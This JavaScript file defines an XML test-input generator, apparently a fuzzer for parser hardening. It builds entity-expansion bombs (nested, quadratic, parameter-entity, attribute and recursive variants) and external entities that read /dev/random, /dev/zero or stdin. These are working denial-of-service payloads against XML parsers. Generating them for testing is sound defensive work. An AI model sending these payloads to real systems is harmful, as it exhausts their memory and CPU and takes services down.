import { xxeGenerator } from '../xxe-generator.js';

/** Documents that grow when they are read: squares, chains, parameter entities, attributes, declared in any order. */
export const bombShapes = xxeGenerator({
  name: 'bomb-shapes',
  rules: {
    start: ['{declaration}<!DOCTYPE {root:r} [{bomb}'],
    square: (random) => `"${random.pick(['A', 'xx', 'lol', '0123456789'])}${'z'.repeat(3_000 + random.below(3_000))}"`,
    calls: (random) => '&q;'.repeat(300 + random.below(500)),
    chain: (random) => {
      const name = random.pick(['a', 'lol', 'x', 'e_', 'n']);
      const width = 5 + random.below(8);
      const depth = 5 + random.below(6);
      const levels = Array.from(
        { length: depth },
        (_, level) => `<!ENTITY ${name}${level + 1} "${`&${name}${level};`.repeat(width)}">`,
      );
      const all = [`<!ENTITY ${name}0 "${random.pick(['ha', 'lol', '0', '&#65;', '<b/>'])}">`, ...levels];
      return `${(random.chance(0.3) ? random.shuffle(all) : all).join(random.pick(['', '\n', ' ', '<!-- -->']))}]><r>&${name}${depth};</r>`;
    },
    parameters: (random) => {
      const width = 3 + random.below(4);
      const depth = 6 + random.below(6);
      const levels = Array.from(
        { length: depth },
        (_, level) => `<!ENTITY % p${level + 1} "${`&#37;p${level};`.repeat(width)}">`,
      );
      return `<!ENTITY % p0 "<!-- x -->">${levels.join('')}<!ENTITY last "x">%p${depth};]><r>&last;</r>`;
    },
    attributes: (random) => {
      const width = 8 + random.below(5);
      const levels = Array.from(
        { length: 7 },
        (_, level) => `<!ENTITY v${level + 1} "${`&v${level};`.repeat(width)}">`,
      );
      return `<!ENTITY v0 "aaaa">${levels.join('')}]><r a="&v7;"/>`;
    },
    mutual: [
      '<!ENTITY a "&b;"><!ENTITY b "&a;">]><r>&a;</r>',
      '<!ENTITY a "x&a;">]><r>&a;</r>',
      '<!ENTITY a "&b;&b;"><!ENTITY b "&c;"><!ENTITY c "&a;">]><r>&b;</r>',
      '<!ENTITY {letters:s} "&{letters:t};"><!ENTITY {letters:t} "{letters}&{letters:s};">]><r x="&{letters:s};"/>',
    ],
    bomb: [
      '<!ENTITY q {square}>]><{root:r}>{calls}</{root:r}>',
      '{chain}',
      '{chain}',
      '{chain}',
      '{parameters}',
      '{attributes}',
      '{mutual}',
      '{endless}',
      '<!ELEMENT r ANY>{chain}',
    ],
    endless: ['<!ENTITY {entity:n} SYSTEM "file:///dev/{device}">]><{root:r}>&{entity:n};</{root:r}>'],
    device: ['random', 'urandom', 'zero', 'stdin', 'tty'],
  },
});
